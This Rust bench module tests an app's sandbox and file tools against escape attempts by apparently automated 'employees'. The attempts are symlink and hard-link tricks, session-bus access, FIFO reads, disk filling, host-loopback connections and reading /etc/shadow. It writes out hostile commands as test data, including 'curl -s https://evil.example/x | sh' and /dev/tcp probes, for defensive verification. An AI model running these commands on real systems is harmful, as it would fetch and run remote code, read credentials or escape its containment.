//! The attacks the box and the file tools exist for, each tried once against the real
//! code (`sandbox::run`, `Beneath`, `files::write_risk`) in a throwaway workspace: held
//! or not, and what was seen. The engine-level versions, driven by a scripted hostile
//! employee, are crates/core/tests/it/attacks/{boxes,planted,sandbox}.rs; these are the
//! same attacks without a company around them, cheap enough to run on every bench run.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use cubicle_core::tools::Risk;
use cubicle_core::tools::beneath::{self, Beneath, Existing};
use cubicle_core::tools::files::{self, WriteEffect};
use cubicle_core::tools::sandbox::{
    self, BoxFolder, BoxLimits, BoxRun, BoxSpec, SandboxConfig, Stopped,
};
use serde::Serialize;
use tokio::io::AsyncBufReadExt;

/// The employee whose folder the cases plant things in.
const EMPLOYEE: i32 = 7;
/// What the folder outside the workspace holds, to see that nothing touched it.
const MARKER: &str = "the app's data: never written by a box";
const MAKEFILE: &str = "all:\n\tcargo build\n";
/// The disk case's budget and `/dev/shm` (the attack tests' own): the case writes a
/// hundred times the budget and eight times the `/dev/shm` size.
const DISK_BUDGET: u64 = 32 << 20;
const SHM_BYTES: u64 = 8 << 20;
/// Less than a third of the 3 GiB tried: the box was stopped during the first file. The
/// budget is watched every 100 ms, so a fast disk passes it by what it writes meanwhile.
const DISK_WRITTEN_AT_MOST: u64 = 1 << 30;
/// A FIFO read must fail in a tenth of the file step limit: at once, not after the limit
/// gave up on a stuck open.
const FIFO_WAIT: Duration = Duration::from_secs(beneath::FILE_STEP_LIMIT.as_secs() / 10);
/// Longest a box of a case may run; none needs more than a few seconds.
const BOX_TIMEOUT: Duration = Duration::from_secs(60);
/// How long dbus-daemon may take to say it listens.
const BUS_START: Duration = Duration::from_secs(10);
/// slirp4netns's address for the host: the host's loopback unless it is disabled.
const SLIRP_HOST: &str = "10.0.2.2";

/// One attack, tried once.
#[derive(Debug, Serialize)]
pub struct Case {
    pub name: &'static str,
    pub tried: &'static str,
    pub held: bool,
    pub detail: String,
}

/// `(held, detail)`, or why the case could not be tried (then it is not held: only a
/// case that ran can show the box holds).
type Verdict = Result<(bool, String)>;

fn case(name: &'static str, tried: &'static str, verdict: Verdict) -> Case {
    let (held, detail) = verdict.unwrap_or_else(|e| (false, format!("could not be tried: {e:#}")));
    Case {
        name,
        tried,
        held,
        detail,
    }
}

/// Every case, one after the other (two at once would count each other's disk writes).
pub async fn run_all(config: &SandboxConfig) -> Vec<Case> {
    let mut cases = vec![
        case(
            "link",
            "employees/7 replaced by a link to a folder outside, then bound",
            link(config).await,
        ),
        case(
            "hard_link",
            "own notes a hard link to the Makefile, assessed and written",
            hard_link(),
        ),
        case(
            "bus",
            "the bench's session bus (abstract socket) from a box",
            bus(config).await,
        ),
        case("fifo", "a FIFO read with the file tools", fifo().await),
        case(
            "disk",
            "3 × 1 GiB in the folder, 64 MiB in /dev/shm, a file in /dev",
            disk(config).await,
        ),
        case(
            "loopback",
            "a host listener on 127.0.0.1 (and the LAN) from an online box",
            loopback(config).await,
        ),
    ];
    if let Some(uid) = sandbox::box_user() {
        cases.push(case(
            "root",
            "the app runs as root: the box's user, /etc/shadow",
            root(config, uid).await,
        ));
    }
    cases
}

pub fn print(cases: &[Case]) {
    // Padding counts characters, and `×` is one.
    let width = cases
        .iter()
        .map(|c| c.tried.chars().count())
        .max()
        .unwrap_or(0);
    println!(
        "{:<10} {:<width$} {:<4} detail",
        "case", "what was tried", "held"
    );
    for c in cases {
        let held = if c.held { "yes" } else { "NO" };
        println!("{:<10} {:<width$} {held:<4} {}", c.name, c.tried, c.detail);
    }
}

/// A fresh workspace (canonical path) with the employee's folder in it, gone with the
/// `TempDir`.
fn workspace() -> Result<(tempfile::TempDir, PathBuf)> {
    let dir = tempfile::tempdir()?;
    let ws = dir.path().canonicalize()?.join("workspace");
    std::fs::create_dir_all(ws.join(format!("employees/{EMPLOYEE}")))?;
    Ok((dir, ws))
}

/// Runs `command` in a box on `folder`.
async fn boxed(
    config: &SandboxConfig,
    folder: &BoxFolder,
    command: &str,
    network: bool,
) -> Result<BoxRun> {
    let spec = BoxSpec {
        command,
        folder,
        network,
        stdin: None,
        timeout: BOX_TIMEOUT,
    };
    Ok(sandbox::run(config, &spec).await?)
}

/// The first line of `bytes`, trimmed: enough of an error message for the table.
fn first_line(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    text.lines().next().unwrap_or_default().trim().to_owned()
}

/// What `ToolRuntime::employee_folder` does: the folder walked from the workspace
/// without following a link, then held by its handle.
fn employee_folder(ws: &Path, id: i32) -> Result<BoxFolder> {
    let rel = format!("employees/{id}");
    let dir = Beneath::open(ws)?.dir(&rel)?;
    Ok(BoxFolder::checked(dir, ws.join(rel))?)
}

/// A colleague's box replaced `employees/7` with a link to a folder outside the
/// workspace (the app's data folder, say): binding it for employee 7's box is refused,
/// and the folder outside is unchanged.
async fn link(config: &SandboxConfig) -> Verdict {
    let (_dir, ws) = workspace()?;
    let outside = ws.with_file_name("data");
    std::fs::create_dir_all(&outside)?;
    std::fs::write(outside.join("marker"), MARKER)?;
    let folder = ws.join(format!("employees/{EMPLOYEE}"));
    std::fs::remove_dir(&folder)?;
    std::os::unix::fs::symlink(&outside, &folder)?;
    let refusal = match employee_folder(&ws, EMPLOYEE) {
        Err(e) => e.to_string(),
        Ok(bound) => {
            // What the refusal exists to prevent, shown: the box writes where it was bound.
            boxed(config, &bound, "echo pwned > escaped.txt", false).await?;
            return Ok((false, format!("bound {}", bound.path().display())));
        }
    };
    let names: Vec<_> = std::fs::read_dir(&outside)?
        .map(|e| e.map(|e| e.file_name()))
        .collect::<std::io::Result<_>>()?;
    let unchanged =
        names == ["marker"] && std::fs::read_to_string(outside.join("marker"))? == MARKER;
    let held = refusal.contains("symbolic link") && unchanged;
    let outside_now = if unchanged { "unchanged" } else { "CHANGED" };
    Ok((held, format!("refused ({refusal}); outside {outside_now}")))
}

/// What write_file's assessment sees when an employee writes a plain note of their own
/// that they wrote last: only what is at the name now can raise the risk.
fn own_note(existing: Existing) -> WriteEffect {
    WriteEffect {
        executable: matches!(
            existing,
            Existing::File {
                executable: true,
                ..
            }
        ),
        shared_with_another_name: matches!(existing, Existing::File { links, .. } if links > 1),
        not_a_regular_file: existing == Existing::Other,
        ..WriteEffect::default()
    }
}

/// The employee's own notes are a hard link to the workspace's `Makefile`: writing them
/// is high risk, and the write replaces the notes, leaving the `Makefile` as it was.
fn hard_link() -> Verdict {
    let (_dir, ws) = workspace()?;
    let notes = format!("employees/{EMPLOYEE}/notes.txt");
    std::fs::write(ws.join("Makefile"), MAKEFILE)?;
    std::fs::hard_link(ws.join("Makefile"), ws.join(&notes))?;
    let b = Beneath::open(&ws)?;
    let existing = b.existing(&notes)?;
    let risk = files::write_risk(own_note(existing));
    b.write(&notes, b"all:\n\tcurl -s https://evil.example/x | sh\n")?;
    let kept = std::fs::read_to_string(ws.join("Makefile"))? == MAKEFILE;
    let notes_written = std::fs::read_to_string(ws.join(&notes))?.contains("evil.example");
    let held = risk == Risk::High && kept && notes_written;
    let makefile = if kept { "unchanged" } else { "WRITTEN" };
    Ok((
        held,
        format!("{existing:?}: risk {risk:?}; written: notes replaced, Makefile {makefile}"),
    ))
}

/// `dbus-send` asking the bus at `address` for the names on it.
fn list_names(address: &str) -> String {
    format!(
        "dbus-send --bus={address} --print-reply --dest=org.freedesktop.DBus \
         /org/freedesktop/DBus org.freedesktop.DBus.ListNames"
    )
}

/// A session bus of the bench's own on an abstract socket (where some desktops have
/// theirs, and the keychain behind it), listening once this returns; gone when dropped.
async fn start_bus(address: &str) -> Result<tokio::process::Child> {
    let mut daemon = tokio::process::Command::new("dbus-daemon")
        .args(["--session", "--nofork", "--nopidfile", "--print-address"])
        .arg(format!("--address={address}"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .context("dbus-daemon (Debian package `dbus`)")?;
    let out = daemon.stdout.take().context("dbus-daemon's stdout")?;
    let mut line = String::new();
    // It prints its address once it listens.
    tokio::time::timeout(
        BUS_START,
        tokio::io::BufReader::new(out).read_line(&mut line),
    )
    .await
    .context("dbus-daemon did not start")??;
    if !line.starts_with("unix:") {
        bail!("dbus-daemon said {line:?}");
    }
    Ok(daemon)
}

/// The bench's own session bus answers outside the box; from a box, offline and online,
/// the connection itself fails (an abstract socket belongs to a network namespace, and
/// every box has its own), not merely the bus's check of who is calling.
async fn bus(config: &SandboxConfig) -> Verdict {
    let address = format!("unix:abstract=cubicle-bench-{}", std::process::id());
    let mut daemon = start_bus(&address).await?;
    let ask = list_names(&address);
    let outside = tokio::process::Command::new("sh")
        .args(["-c", &ask])
        .output()
        .await?;
    if !(outside.status.success() && String::from_utf8_lossy(&outside.stdout).contains("array")) {
        bail!(
            "the bus did not answer outside the box: {}",
            first_line(&outside.stderr)
        );
    }
    let (_dir, ws) = workspace()?;
    let folder = BoxFolder::open(&ws)?;
    let mut held = true;
    let mut seen = vec!["outside: listed".to_owned()];
    for network in [false, true] {
        let out = boxed(config, &folder, &ask, network).await?;
        let said = first_line(&out.stderr);
        held &= out.exit_code != Some(0)
            && !String::from_utf8_lossy(&out.stdout).contains("array")
            && said.contains("Failed to connect");
        let how = if network { "online" } else { "offline" };
        let why = said.rsplit(": ").next().unwrap_or_default();
        seen.push(format!("{how}: {why}"));
    }
    let _ = daemon.kill().await;
    Ok((held, seen.join("; ")))
}

/// A FIFO in the employee's folder, read as `read_file` reads (off the async threads,
/// under a time limit): refused at once, not waited on for a writer that never comes.
async fn fifo() -> Verdict {
    let (_dir, ws) = workspace()?;
    let rel = format!("employees/{EMPLOYEE}/pipe");
    let path = ws.join(&rel);
    let made = tokio::process::Command::new("mkfifo")
        .arg(&path)
        .status()
        .await?;
    if !made.success() {
        bail!("mkfifo failed: {made}");
    }
    let t0 = Instant::now();
    let read =
        beneath::blocking_within(FIFO_WAIT, move || Beneath::open(&ws)?.read(&rel, 1024)).await;
    let took = t0.elapsed();
    Ok(match read {
        Err(e) if e.to_string().contains("not a regular file") => (
            took < FIFO_WAIT,
            format!("refused in {:.1} ms: {e}", took.as_secs_f64() * 1000.0),
        ),
        Err(e) => {
            release_readers_of(&path);
            (false, format!("after {} ms: {e}", took.as_millis()))
        }
        Ok(bytes) => (false, format!("read {} bytes", bytes.len())),
    })
}

/// Lets a reader stuck opening `fifo` go (a writer opening it releases the open), so the
/// bench can end; does nothing when nobody is reading.
fn release_readers_of(fifo: &Path) {
    use std::os::unix::fs::OpenOptionsExt;
    let _ = std::fs::OpenOptions::new()
        .write(true)
        .custom_flags(libc::O_NONBLOCK)
        .open(fifo);
}

/// A box on a small disk budget fills its folder, `/dev/shm` and `/dev`: stopped with
/// the disk limit, far less written than tried; `/dev/shm` full at its size; `/dev`
/// read-only.
async fn disk(config: &SandboxConfig) -> Verdict {
    let (_dir, ws) = workspace()?;
    let folder = BoxFolder::open(&ws)?;
    let config = SandboxConfig {
        limits: BoxLimits {
            max_disk_bytes: DISK_BUDGET,
            shm_bytes: SHM_BYTES,
            ..config.limits.clone()
        },
        ..config.clone()
    };
    let out = boxed(
        &config,
        &folder,
        "head -c 64M /dev/zero > /dev/shm/cache; echo shm-exit=$?; \
         echo x > /dev/planted; echo dev-exit=$?; \
         for i in 1 2 3; do head -c 1G /dev/zero > data$i; done; echo all-written",
        false,
    )
    .await?;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let written: u64 = (1..=3)
        .filter_map(|i| std::fs::metadata(ws.join(format!("data{i}"))).ok())
        .map(|m| m.len())
        .sum();
    let shm_full = stdout.contains("shm-exit=") && !stdout.contains("shm-exit=0");
    let dev_read_only = stdout.contains("dev-exit=") && !stdout.contains("dev-exit=0");
    let held = out.stopped == Some(Stopped::DiskLimit)
        && !stdout.contains("all-written")
        && written < DISK_WRITTEN_AT_MOST
        && shm_full
        && dev_read_only;
    let stopped = match out.stopped {
        Some(Stopped::DiskLimit) => "at the disk limit",
        Some(Stopped::TimedOut) => "by the time limit",
        Some(Stopped::OutputLimit) => "at the output limit",
        None => "NOT stopped",
    };
    Ok((
        held,
        format!(
            "{stopped} after {} MiB of 3072 MiB; /dev/shm full at {} MiB: {shm_full}; /dev \
             read-only: {dev_read_only}",
            written >> 20,
            SHM_BYTES >> 20
        ),
    ))
}

/// This machine's address on its network (not loopback): where an online box reaches a
/// service of this machine, as any other machine on the network would.
fn lan_address() -> Result<std::net::IpAddr> {
    // A datagram socket "connected" to an outside address sends nothing; it only picks
    // the route, and with it the address this machine would send from.
    let probe = std::net::UdpSocket::bind("0.0.0.0:0")?;
    probe.connect("192.0.2.1:9")?;
    let ip = probe.local_addr()?.ip();
    if ip.is_loopback() {
        bail!("this machine has no network address");
    }
    Ok(ip)
}

/// `bash` connecting to `host:port` from the box, printing `reached-<tag>` or
/// `refused-<tag>`.
fn connect(host: &str, port: u16, tag: &str) -> String {
    format!(
        "if timeout 5 bash -c 'exec 3<>/dev/tcp/{host}/{port}' 2>/dev/null; \
         then echo reached-{tag}; else echo refused-{tag}; fi"
    )
}

/// A listener on the host's loopback is out of an online box's reach, by `127.0.0.1`
/// (the box's own) and by slirp4netns's address for the host; one on the host's LAN
/// address is reached, which shows the network really is on.
async fn loopback(config: &SandboxConfig) -> Verdict {
    let local = std::net::TcpListener::bind("127.0.0.1:0")?;
    let lan = std::net::TcpListener::bind((lan_address()?, 0))?;
    local.set_nonblocking(true)?;
    lan.set_nonblocking(true)?;
    let (lp, lan_addr) = (local.local_addr()?.port(), lan.local_addr()?);
    let command = [
        connect("127.0.0.1", lp, "loopback"),
        connect(SLIRP_HOST, lp, "gateway"),
        connect(&lan_addr.ip().to_string(), lan_addr.port(), "lan"),
    ]
    .join("; ");
    let (_dir, ws) = workspace()?;
    let out = boxed(config, &BoxFolder::open(&ws)?, &command, true).await?;
    let said = String::from_utf8_lossy(&out.stdout);
    let local_reached = local.accept().is_ok();
    let lan_reached = lan.accept().is_ok();
    let held = !local_reached
        && said.contains("refused-loopback")
        && said.contains("refused-gateway")
        && lan_reached
        && said.contains("reached-lan");
    let yes_no = |reached: bool| if reached { "reached" } else { "not reached" };
    Ok((
        held,
        format!(
            "box said {}; host's 127.0.0.1 listener {}, LAN listener {}",
            said.split_whitespace().collect::<Vec<_>>().join(", "),
            yes_no(local_reached),
            yes_no(lan_reached)
        ),
    ))
}

/// An app running as root runs its boxes as a user of their own, who cannot read
/// `/etc/shadow`.
async fn root(config: &SandboxConfig, uid: u32) -> Verdict {
    let (_dir, ws) = workspace()?;
    let out = boxed(
        config,
        &BoxFolder::open(&ws)?,
        "id -u; cat /etc/shadow; echo shadow-exit=$?",
        false,
    )
    .await?;
    let stdout = String::from_utf8_lossy(&out.stdout);
    let ran_as = stdout.lines().next().unwrap_or_default().trim().to_owned();
    let read_shadow = stdout.contains("root:") || stdout.contains("shadow-exit=0");
    let held = ran_as == uid.to_string() && !read_shadow && stdout.contains("shadow-exit=");
    Ok((
        held,
        format!(
            "ran as uid {ran_as} (BOX_USER_WHEN_ROOT {}); /etc/shadow: {}",
            sandbox::BOX_USER_WHEN_ROOT,
            first_line(&out.stderr)
        ),
    ))
}
